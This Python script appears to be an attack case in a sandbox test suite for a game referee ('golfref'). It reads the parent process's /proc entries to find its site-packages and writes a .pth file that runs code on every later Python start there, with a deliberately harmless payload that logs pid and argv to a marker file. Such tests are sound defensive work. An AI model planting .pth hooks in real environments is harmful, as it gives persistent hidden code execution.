#!/usr/bin/env python3
"""Attack 8: plant code that runs in the next golfref process.

`pth_bot.py OUT NAME MARKER`: at hello it finds the referee's site-packages (a mapped file
under a `site-packages` folder in /proc/<ppid>/maps, such as a compiled extension; else from
the interpreter in /proc/<ppid>/cmdline, next to a pyvenv.cfg) and writes NAME.pth there: a
line that every later Python start of that environment runs, which appends the process's pid
and argv to MARKER when MARKER's folder still exists (nothing else). Report: {"site_packages":
path or null, "planted": path or null, "error": null or an errno name}.
"""

from __future__ import annotations

import glob
import os
import sys
from typing import Any

import hostile


def site_packages(referee: int) -> str | None:
    """The referee's site-packages folder, or None."""
    try:
        with open(f"/proc/{referee}/maps") as maps:
            for line in maps:
                path = line.split(maxsplit=5)[5].strip() if len(line.split()) > 5 else ""
                if "/site-packages/" in path:
                    return path[: path.index("/site-packages/") + len("/site-packages")]
    except OSError:
        pass
    argv = hostile.cmdline(referee)
    if not argv:
        return None
    try:
        cwd = os.readlink(f"/proc/{referee}/cwd")
    except OSError:
        cwd = "/"
    env = os.path.dirname(os.path.dirname(os.path.join(cwd, argv[0])))
    if not os.path.exists(os.path.join(env, "pyvenv.cfg")):
        return None
    found = sorted(glob.glob(os.path.join(env, "lib", "python*", "site-packages")))
    return found[0] if found else None


def payload(marker: str) -> str:
    """One .pth line: harmless, and silent when the marker's folder is gone."""
    body = (
        f"import os, sys\nif os.path.isdir({os.path.dirname(marker)!r}):\n"
        f"    with open({marker!r}, 'a') as f: f.write(f'{{os.getpid()}} {{sys.orig_argv!r}}\\n')\n"
    )
    return f"import sys; exec({body!r})\n"


def main() -> int:
    out, name, marker = sys.argv[1], sys.argv[2], sys.argv[3]

    def attack(hello: dict[str, Any]) -> None:
        result: dict[str, Any] = {"site_packages": site_packages(os.getppid()), "planted": None, "error": None}
        if result["site_packages"] is None:
            result["error"] = "not found"
        else:
            path = os.path.join(result["site_packages"], f"{name}.pth")
            try:
                with open(path, "w", encoding="utf-8") as f:
                    f.write(payload(marker))
                result["planted"] = path
            except OSError as e:
                result["error"] = hostile.error_name(e)
        hostile.report(out, result)

    return hostile.play("pth", at_hello=attack)


if __name__ == "__main__":
    sys.exit(main())
